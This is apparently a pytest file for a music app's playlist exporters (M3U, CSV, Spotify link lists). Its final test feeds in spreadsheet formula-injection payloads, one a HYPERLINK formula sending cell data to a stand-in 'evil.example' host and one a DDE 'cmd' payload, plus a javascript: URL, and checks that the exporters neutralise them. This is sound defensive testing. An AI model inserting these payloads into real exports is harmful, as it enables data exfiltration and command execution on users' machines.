"""Playlist exports parse back: M3U structure, CSV round trip, Spotify links."""

from __future__ import annotations

import csv
import io

import pytest

from services.common.contracts.songs import Song
from services.common.playlists import export_filename, spotify_links, to_csv, to_m3u
from tests.songs import make_song


def song(i: int, **extra) -> Song:
    return make_song(f"id{i}", **{"title": f"Song {i}", "artist": f"Artist {i}", "description": "d", **extra})


SONGS = [
    song(
        1,
        preview_url="https://audio-ssl.itunes.apple.com/1.m4a",
        duration_ms=201_400,
        enrich_status="ok",
        itunes_year=1999,
    ),
    song(2, title='Comma, "Quote"\nand newline', artist="Ünïcödé, Band"),  # no preview
    song(3, preview_url="https://audio-ssl.itunes.apple.com/3.m4a", album="Greatest, Hits", year=2010),
]


def test_m3u_lists_playable_songs_and_comments_the_rest():
    text = to_m3u(SONGS)
    lines = text.splitlines()
    assert lines[0] == "#EXTM3U"
    assert lines[1] == "#PLAYLIST:PixelPlay (2 of 3 songs have a preview)"
    assert lines[2:4] == ["#EXTINF:201,Artist 1 - Song 1", "https://audio-ssl.itunes.apple.com/1.m4a"]
    # The song without preview stays visible as one comment line, newline in its title flattened.
    assert (
        lines[4]
        == '# no preview: Ünïcödé, Band - Comma, "Quote" and newline https://open.spotify.com/track/id2'
    )
    assert lines[5:] == ["#EXTINF:-1,Artist 3 - Song 3", "https://audio-ssl.itunes.apple.com/3.m4a"]
    # Every non-comment line is a URL preceded by its #EXTINF line.
    for i, line in enumerate(lines):
        if not line.startswith("#"):
            assert line.startswith("https://") and lines[i - 1].startswith("#EXTINF:")


def test_csv_round_trips_through_csv_reader():
    rows = list(csv.reader(io.StringIO(to_csv(SONGS), newline="")))
    assert rows[0] == ["title", "artist", "album", "year", "spotify_url", "preview_url"]
    assert rows[1] == ["Song 1", "Artist 1", "", "1999", "https://open.spotify.com/track/id1",
                       "https://audio-ssl.itunes.apple.com/1.m4a"]  # fmt: skip
    assert rows[2][:2] == ['Comma, "Quote"\nand newline', "Ünïcödé, Band"]
    assert rows[3][2:4] == ["Greatest, Hits", "2010"]
    assert len(rows) == 4


def test_links_and_empty_exports():
    assert spotify_links(SONGS).splitlines() == [s.spotify_url for s in SONGS]
    assert to_m3u([]).splitlines() == ["#EXTM3U", "#PLAYLIST:PixelPlay (0 of 0 songs have a preview)"]
    assert list(csv.reader(io.StringIO(to_csv([])))) == [["title", "artist", "album", "year", "spotify_url",
                                                          "preview_url"]]  # fmt: skip
    assert spotify_links([]) == ""


def test_export_filenames():
    assert [export_filename(k) for k in ("m3u", "csv", "links")] == [
        "pixelplay.m3u8",
        "pixelplay.csv",
        "pixelplay.txt",
    ]
    with pytest.raises(ValueError, match="unknown export kind"):
        export_filename("xspf")


def test_hostile_catalog_data_cannot_inject_formulas_or_foreign_links():
    hostile = song(
        9,
        title='=HYPERLINK("https://evil.example/?"&A1,"click")',
        artist="+cmd|' /C calc'!A0",
        album="\tTabbed",
        spotify_url="javascript:alert(1)",
        preview_url="http://audio-ssl.itunes.apple.com/plain-http.m4a",
    )
    foreign = song(10, title="@SUM(1+1)", spotify_url="https://open.spotify.com.evil.example/track/x",
                   preview_url="https://evil.example/x.m4a")  # fmt: skip
    rows = list(csv.reader(io.StringIO(to_csv([hostile, foreign]))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[1][:3] == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        "'+cmd|' /C calc'!A0",
        "'\tTabbed",
    ]
    assert rows[1][4:] == ["", ""] and rows[2][4:] == ["", ""]
    m3u = to_m3u([hostile, foreign])
    assert "javascript:" not in m3u and "http://" not in m3u and "/x.m4a" not in m3u
    assert not [line for line in m3u.splitlines() if not line.startswith("#")]  # no playable entry
    assert spotify_links([hostile, foreign]) == ""
